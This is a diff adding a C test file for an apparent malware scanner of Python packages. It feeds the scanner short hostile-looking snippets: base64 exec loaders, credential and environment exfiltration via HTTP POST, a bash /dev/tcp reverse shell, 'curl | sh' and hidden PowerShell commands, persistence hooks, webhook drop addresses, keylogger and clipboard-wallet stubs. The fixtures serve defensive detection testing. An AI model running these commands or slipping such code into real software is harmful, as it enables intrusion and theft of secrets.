@@ -1,0 +1,344 @@
+/* Each check on the smallest source that has it, and on the nearest honest one that has not. The
+ * payloads do nothing; the names of hosts lead nowhere. */
+#include "tests/ch_test.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include "customhouse/limits.h"
+#include "scanner/source/source.h"
+
+/* Findings as " NAME NAME ", then facts as "NAME=VALUE ". */
+static void look(const char *source, size_t len, enum ch_code_place place, struct ch_buf *ret)
+{
+    static const struct ch_sha256 sha256 = {{1}};
+    struct ch_err err;
+    int fd = memfd_create("answer", MFD_CLOEXEC);
+    assert_true(fd >= 0);
+    struct ch_scan_writer *w = ch_scan_writer_new(fd, 1 << 20);
+    struct ch_source *s = ch_source_new(w);
+    ch_source_see(s, CH_STR("pkg/m.py"), place, (struct ch_str){source, len});
+    ch_source_end(s);
+    ch_source_free(s);
+    assert_ch_ok(&err, ch_scan_write_end(w, &sha256, len, &err));
+    ch_scan_writer_free(w);
+    size_t size = (size_t)lseek(fd, 0, SEEK_END);
+    char *stream = ch_alloc(size + 1);
+    assert_int_equal(pread(fd, stream, size, 0), size);
+    struct ch_scan_reader r;
+    struct ch_scan_record rec;
+    ch_scan_reader_init(&r, (struct ch_str){stream, size});
+    ch_buf_putc(ret, ' ');
+    while (ch_scan_read(&r, &rec, &err) == CH_OK) {
+        if (rec.type == CH_REC_FINDING) {
+            ch_buf_puts(ret, ch_str_of(ch_finding_row((uint32_t)rec.u.finding.code)->name));
+            ch_buf_putc(ret, ' ');
+        } else if (rec.type == CH_REC_FACT) {
+            ch_buf_puts(ret, rec.u.fact.name);
+            ch_buf_putc(ret, '=');
+            ch_buf_puts(ret, rec.u.fact.value);
+            ch_buf_putc(ret, ' ');
+        }
+    }
+    free(stream);
+    close(fd);
+}
+
+enum { P_IMPORT = CH_PLACE_IMPORT, P_INSTALL = CH_PLACE_INSTALL, P_START = CH_PLACE_START };
+
+struct row {
+    int place;
+    const char *finding; /* NULL: none but notes and what is of severity low */
+    const char *source;
+};
+
+static const struct row rows[] = {
+    /* decode and execute */
+    {P_IMPORT, "hidden-code", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
+    {P_IMPORT, "hidden-code", "from base64 import b64decode as d\nx = d(b'eA==')\nexec(x)\n"},
+    {P_IMPORT, "hidden-code",
+     "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
+     "exec((_)(b'=='))\n"},
+    {P_IMPORT, "hidden-code",
+     "import zlib, marshal\ndef f():\n    eval(compile(marshal.loads(zlib.decompress(b'x')), 'a', 'exec'))\n"},
+    {P_IMPORT, "hidden-code", "exec(bytes.fromhex('7072').decode())\n"},
+    {P_IMPORT, "hidden-code", "exec(''.join(chr(c) for c in [112, 114]))\n"},
+    {P_IMPORT, "hidden-code", "exec(''.join(map(chr, [112, 114])))\n"},
+    {P_IMPORT, "hidden-code", "exec(bytes([b ^ 7 for b in data]).decode())\n"},
+    {P_IMPORT, "hidden-code", "import codecs\nexec(codecs.decode('cevag', 'rot13'))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode('eA=='))\n"},
+    {P_IMPORT, "hidden-code",
+     "import base64\ndef load(s):\n    return base64.b64decode(s)\nexec(load('eA=='))\n"},
+    {P_IMPORT, "hidden-code", "getattr(__builtins__, 'exec')(__import__('base64').b64decode('eA=='))\n"},
+    {P_IMPORT, NULL, "import base64\nicon = base64.b64decode('cHJpbnQoMSk=')\n"},
+    {P_IMPORT, NULL, "with open('version.py') as f:\n    exec(f.read(), ns)\n"},
+    {P_IMPORT, NULL, "exec(compile(open(name).read(), name, 'exec'))\n"},
+    {P_IMPORT, NULL, "exec('def f(%s): pass' % args)\n"},
+    {P_IMPORT, NULL, "re.compile('exec(base64.b64decode(x))')\n"},
+    /* remote code */
+    {P_IMPORT, "remote-code", "import requests\ndef f():\n    exec(requests.get(u).text)\n"},
+    {P_IMPORT, "remote-code",
+     "from urllib.request import urlopen\ndef f():\n    with urlopen(u) as r:\n        eval(r.read().decode())\n"},
+    {P_IMPORT, "remote-code", "import requests, os\ndef f():\n    os.system(requests.get(u).json()['c'])\n"},
+    {P_IMPORT, NULL, "import requests\ndef f():\n    return requests.get(u).json()\n"},
+    /* hidden names */
+    {P_IMPORT, "hidden-name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"},
+    {P_IMPORT, "hidden-name", "def f():\n    __import__('o' 's').system('id')\n"},
+    {P_IMPORT, "hidden-name", "def f():\n    __import__('sso'[::-1][1:]); getattr(__import__('subprocess'), 'nur'[::-1])(x)\n"},
+    {P_IMPORT, "hidden-name", "globals()['__bui' + 'ltins__']\ngetattr(__builtins__, 'e%s' % 'val')('1')\n"},
+    {P_IMPORT, "hidden-name", "import os\nos.__dict__['{}em'.format('syst')]('id')\n"},
+    {P_IMPORT, NULL, "import os\ngetattr(os, 'getuid')()\n"},
+    {P_IMPORT, NULL, "import importlib\nm = importlib.import_module('pkg' + '.sub')\nm.go()\n"},
+    {P_IMPORT, NULL, "import socket\ngetattr(socket, 'AF_' + 'INET6', None)\n"},
+    {P_IMPORT, "computed-import", "import importlib\nm = importlib.import_module(name)\n"},
+    /* when it runs */
+    {P_INSTALL, "install-network", "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\n"},
+    {P_INSTALL, NULL, "from setuptools import setup\nsetup(name='x')\n"},
+    {P_INSTALL, "install-process", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n"},
+    {P_IMPORT, "import-network", "import requests\nrequests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network", "import requests\ndef f():\n    requests.get('http://example.org/')\ndef g():\n    f()\ng()\n"},
+    {P_IMPORT, "import-network", "import requests\nclass A:\n    x = requests.get('http://example.org/')\n"},
+    {P_IMPORT, "import-network", "import requests, threading\ndef f():\n    requests.get('http://example.org/')\nthreading.Thread(target=f).start()\n"},
+    {P_IMPORT, "import-network", "import requests\ndef send(u):\n    requests.get(u)\nsend('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\ndef f():\n    requests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\nif __name__ == '__main__':\n    requests.get('http://example.org/')\n"},
+    {P_IMPORT, NULL, "import requests\nsession = requests.Session()\n"},
+    {P_IMPORT, "import-process", "import os\nos.system('id')\n"},
+    {P_START, "start-code", "import os\nos.system('id')\n"},
+    {P_START, NULL, "import os\nos.environ.setdefault('A', 'b')\n"},
+    /* secrets */
+    {P_IMPORT, "secret-theft", "import requests, os\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post(u, data=k)\n"},
+    {P_IMPORT, "secret-theft", "import requests\nP = ['~/.ssh/id_rsa', '~/.aws/credentials']\ndef f():\n    requests.post(u, files=g(P))\n"},
+    {P_IMPORT, "secret-theft", "import os, requests\ndef f():\n    p = os.path.join(home, '.aws', 'credentials')\n    with open(os.path.join(home, '.aws/credentials')) as k:\n        requests.post(u, data={'k': k.read()})\n"},
+    {P_IMPORT, "secret-and-network", "import requests\nP = '~/.netrc'\ndef f():\n    requests.post(u, auth=auth(P))\n"},
+    {P_IMPORT, NULL, "P = ['~/.ssh/id_rsa', '~/.aws/credentials']\n"},
+    {P_IMPORT, "environment-theft", "import os, requests\ndef f():\n    requests.post(u, json=dict(os.environ))\n"},
+    {P_IMPORT, "environment-theft", "import json, os, urllib.request\ndef f():\n    urllib.request.urlopen(u, json.dumps(os.environ.copy()).encode())\n"},
+    {P_IMPORT, NULL, "import os, requests\ndef f():\n    requests.post(u, json={'k': os.environ['KEY'], 'l': os.environ.get('L')})\n"},
+    {P_IMPORT, NULL, "import os, subprocess\ndef f():\n    subprocess.run(['a'], env=dict(os.environ))\n"},
+    {P_INSTALL, "host-theft", "import socket, requests, getpass\nrequests.get('http://example.org/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"},
+    {P_IMPORT, NULL, "import socket, requests\ndef f():\n    requests.get('http://example.org/', params={'h': socket.gethostname()})\n"},
+    {P_IMPORT, "dns-theft", "import socket\ndef f():\n    socket.gethostbyname(socket.gethostname() + '.x.example.org')\n"},
+    {P_IMPORT, NULL, "import socket\ndef f():\n    return socket.gethostbyname(socket.gethostname())\n"},
+    /* addresses */
+    {P_IMPORT, "drop-address", "W = 'https://discord.com/api/webhooks/123456789012/AbCdEfGhIjKl-x'\n"},
+    {P_IMPORT, "drop-address", "W = 'https://api.telegram.org/bot' + '1234567890:AAEabcdefghijk' + '/sendMessage'\n"},
+    {P_IMPORT, NULL, "W = f'https://discord.com/api/webhooks/{channel}/{token}'\n"},
+    {P_IMPORT, NULL, "W = 'https://api.telegram.org/bot%s/sendMessage' % token\n"},
+    {P_IMPORT, "drop-host", "U = 'https://abc.ngrok.io/x'\n"},
+    {P_IMPORT, "bare-address", "U = 'http://45.9.148.3:8080/x'\n"},
+    {P_IMPORT, "miner", "P = 'stratum+tcp://pool.example.org:3333'\n"},
+    /* shells */
+    {P_IMPORT, "reverse-shell", "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect((h, 1))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n"},
+    {P_IMPORT, "reverse-shell", "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/example.org/1 0>&1')\n"},
+    {P_IMPORT, "reverse-shell", "import socket, subprocess\ns = socket.create_connection(('example.org', 1))\nsubprocess.Popen('sh', stdin=s.fileno())\n"},
+    {P_IMPORT, NULL, "import os, subprocess\ndef f(log):\n    os.dup2(log.fileno(), 1)\n    subprocess.call(['a'])\n"},
+    {P_IMPORT, "persistence", "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as o:\n        o.write('x')\n"},
+    {P_IMPORT, "persistence", "import subprocess\ndef f():\n    subprocess.run('(crontab -l; echo x) | crontab -', shell=True)\n"},
+    {P_IMPORT, "persistence", "import winreg\nK = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\ndef f():\n    winreg.SetValueEx(k, 'x', 0, 1, p)\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n"},
+    {P_IMPORT, "start-file", "import os\ndef f(d):\n    with open(os.path.join(d, 'x.pth'), 'w') as o:\n        o.write('import x')\n"},
+    {P_IMPORT, "download-run", "from urllib.request import urlretrieve\nimport subprocess\ndef f():\n    urlretrieve(u, '/tmp/x')\n    subprocess.Popen(['/tmp/x'])\n"},
+    {P_IMPORT, "download-run", "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.startfile(p)\n"},
+    {P_IMPORT, NULL, "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.system('ls')\n"},
+    {P_IMPORT, "hidden-command", "import os\ndef f():\n    os.system('curl -s http://example.org/x | sh')\n"},
+    {P_IMPORT, "hidden-command", "import subprocess\ndef f():\n    subprocess.run(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'ZQ=='])\n"},
+    {P_IMPORT, "hidden-command", "import os, base64\ndef f():\n    os.system(base64.b64decode('aWQ=').decode())\n"},
+    {P_IMPORT, NULL, "import os\ndef f():\n    os.system('curl -s http://example.org/x -o x')\n"},
+    {P_IMPORT, "anti-analysis", "L = ['vmtoolsd', 'VBoxService', 'Wireshark', 'ollydbg']\n"},
+    {P_IMPORT, NULL, "L = ['Wireshark', 'fiddler']\n"},
+    {P_IMPORT, "self-delete", "import os\nos.remove(__file__)\n"},
+    {P_IMPORT, NULL, "import os\nos.remove(os.path.join(d, 'x'))\n"},
+    {P_IMPORT, "keylogger", "import requests\nfrom pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n    requests.post(u)\n"},
+    {P_IMPORT, NULL, "from pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n"},
+    {P_IMPORT, "clipboard-wallet", "import pyperclip, re\ndef f():\n    if re.match('^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(mine)\n"},
+    {P_IMPORT, NULL, "import pyperclip\ndef f():\n    pyperclip.copy(t)\n"},
+    {P_IMPORT, "embedded-object", "import pickle\nT = pickle.loads(b'\\x80\\x03K\\x01.')\n"},
+    {P_IMPORT, NULL, "import pickle\ndef f(b):\n    return pickle.loads(b)\n"},
+    /* the text itself */
+    {P_IMPORT, "source-encoding", "# coding: unicode_escape\n"},
+    {P_IMPORT, NULL, "# coding: latin-1\nx = '\xe9'\n"},
+    {P_IMPORT, "source-refused", "x = (\n"},
+    {P_IMPORT, "bidi-control", "x = 'a'  # \xe2\x80\xae b\n"},
+    {P_IMPORT, NULL, "x = '\xe2\x80\x9c'\n"},
+    {P_IMPORT, "look-alike-name", "\xf0\x9d\x91\x92\xf0\x9d\x91\xa5\xf0\x9d\x91\x92\xf0\x9d\x91\x90('1')\n"},
+    {P_IMPORT, "look-alike-name", "def l\xd0\xbe" "ad(): pass\n"},
+    {P_IMPORT, NULL, "\xce\x94t = 1\n\xd0\xb4\xd0\xb0\xd1\x82\xd0\xb0 = 2\n"},
+};
+
+static void finds(void **state)
+{
+    (void)state;
+    static const char *const loud[] = {"high", "medium"};
+    size_t failures = 0;
+    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
+        const struct row *row = &rows[i];
+        struct ch_buf out;
+        ch_buf_init(&out, 4096);
+        look(row->source, strlen(row->source), (enum ch_code_place)row->place, &out);
+        ch_buf_putc(&out, '\0');
+        char word[80] = {0};
+        bool good = true;
+        if (row->finding != NULL) {
+            snprintf(word, sizeof(word), " %s ", row->finding);
+            good = strstr(out.ptr, word) != NULL;
+        } else {
+            const struct ch_finding_row *f;
+            for (size_t k = 0; (f = ch_finding_at(k)) != NULL; k++) {
+                snprintf(word, sizeof(word), " %s ", f->name);
+                bool counts = strcmp(ch_severity_name(f->severity), loud[0]) == 0 ||
+                              strcmp(ch_severity_name(f->severity), loud[1]) == 0;
+                good = good && (!counts || strstr(out.ptr, word) == NULL);
+            }
+        }
+        if (!good) {
+            print_error("expected %s, got \"%s\" of:\n%s\n",
+                        row->finding != NULL ? row->finding : "nothing loud", out.ptr, row->source);
+            failures++;
+        }
+        ch_buf_done(&out);
+    }
+    assert_int_equal(failures, 0);
+}
+
+static void sees_code_behind_blanks(void **state)
+{
+    (void)state;
+    char text[600];
+    struct ch_buf out;
+    ch_buf_init(&out, 4096);
+    snprintf(text, sizeof(text), "x = 1%*s;import y\n", 199, "");
+    look(text, strlen(text), CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " ");
+    snprintf(text, sizeof(text), "x = 1%*s;import y\n", 200, "");
+    ch_buf_clear(&out);
+    look(text, strlen(text), CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " wide-blanks ");
+    ch_buf_done(&out);
+}
+
+static void judges_tests_mildly(void **state)
+{
+    (void)state;
+    struct ch_buf out;
+    ch_buf_init(&out, 4096);
+    const char *source = "import base64\nexec(base64.b64decode('eA=='))\n";
+    look(source, strlen(source), CH_PLACE_TEST, &out);
+    assert_str_eq(ch_buf_str(&out), " source-in-tests ");
+    ch_buf_done(&out);
+}
+
+static void tells_capabilities(void **state)
+{
+    (void)state;
+    struct ch_buf out;
+    ch_buf_init(&out, 4096);
+    const char *source = "import ctypes, os, requests, subprocess\n"
+                         "def f():\n"
+                         "    requests.get(u)\n"
+                         "    os.getenv('A')\n"
+                         "    eval(x)\n"
+                         "    subprocess.run(x)\n"
+                         "P = '~/.netrc'\n";
+    look(source, strlen(source), CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out),
+                  " capability=credentials capability=dynamic-code "
+                  "capability=environment capability=native-code capability=network "
+                  "capability=process ");
+    ch_buf_clear(&out);
+    source = "import os\ndef f():\n    os.system('x')\n";
+    look(source, strlen(source), CH_PLACE_INSTALL, &out);
+    assert_str_eq(ch_buf_str(&out), " install-process capability=process install-capability=process ");
+    ch_buf_done(&out);
+}
+
+/* Beyond a limit it holds. */
+static void holds_at_its_limits(void **state)
+{
+    (void)state;
+    struct ch_buf out;
+    ch_buf_init(&out, 4096);
+    const char *deep = "x = ((((((1))))))\n";
+    uint64_t depth = ch_limits.source_depth;
+    ch_limits.source_depth = 7;
+    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " ");
+    ch_limits.source_depth = 6;
+    ch_buf_clear(&out);
+    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " limit ");
+    ch_limits.source_depth = depth;
+    uint64_t names = ch_limits.source_names;
+    for (uint64_t max = 2; max <= 3; max++) {
+        const char *three = "a = b = c = 1\n";
+        ch_limits.source_names = max;
+        ch_buf_clear(&out);
+        look(three, strlen(three), CH_PLACE_IMPORT, &out);
+        assert_str_eq(ch_buf_str(&out), max == 2 ? " limit " : " ");
+    }
+    ch_limits.source_names = names;
+    uint64_t tokens = ch_limits.source_line_tokens;
+    char line[4100];
+    for (int half = 0; half < 2; half++) {
+        memset(line, 'a', sizeof(line));
+        for (size_t i = 1; i < sizeof(line); i += 2) {
+            line[i] = ',';
+        }
+        ch_limits.source_line_tokens = half == 0 ? 2048 : 8192;
+        ch_buf_clear(&out);
+        look(line, sizeof(line), CH_PLACE_IMPORT, &out);
+        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
+    }
+    ch_limits.source_line_tokens = tokens;
+    uint64_t bytes = ch_limits.source_fold_bytes;
+    const char *sum = "a = 'x' * 2\nb = '\\x41' + '\\x42'\n";
+    for (int half = 0; half < 2; half++) {
+        ch_limits.source_fold_bytes = half == 0 ? 16 : 4096;
+        ch_buf_clear(&out);
+        look(sum, strlen(sum), CH_PLACE_IMPORT, &out);
+        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
+    }
+    ch_limits.source_fold_bytes = bytes;
+    ch_buf_done(&out);
+}
+
+/* Linear in the size: sums, names, brackets and f-strings, each a megabyte. */
+static void ends_on_large_sources(void **state)
+{
+    (void)state;
+    static const char *const pieces[] = {"'abcdefgh' +\\\n", "'abc' 'd'\\\n", "f(", "a=b=", "f'{",
+                                         "lambda:", "x if y else ", "if a: if b: ", "[a for a in ",
+                                         "\\\n", "a.b(c)[d]", "def f(a, b=", "a;", "\xd0\xbe",
+                                         "from a import ", "{1:[", "'a' %", "a:=", "#\r", "a,b="};
+    size_t size = 1 << 20;
+    char *text = ch_alloc(size);
+    struct ch_buf out;
+    ch_buf_init(&out, 1 << 20);
+    for (size_t i = 0; i < CH_ARRAY_LEN(pieces); i++) {
+        size_t n = strlen(pieces[i]);
+        for (size_t at = 0; at < size; at++) {
+            text[at] = pieces[i][at % n];
+        }
+        ch_buf_clear(&out);
+        look(text, size, CH_PLACE_IMPORT, &out);
+        assert_true(out.len > 0 && !out.failed);
+    }
+    ch_buf_done(&out);
+    free(text);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(finds),
+        cmocka_unit_test(sees_code_behind_blanks),
+        cmocka_unit_test(judges_tests_mildly),
+        cmocka_unit_test(tells_capabilities),
+        cmocka_unit_test(holds_at_its_limits),
+        cmocka_unit_test(ends_on_large_sources),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
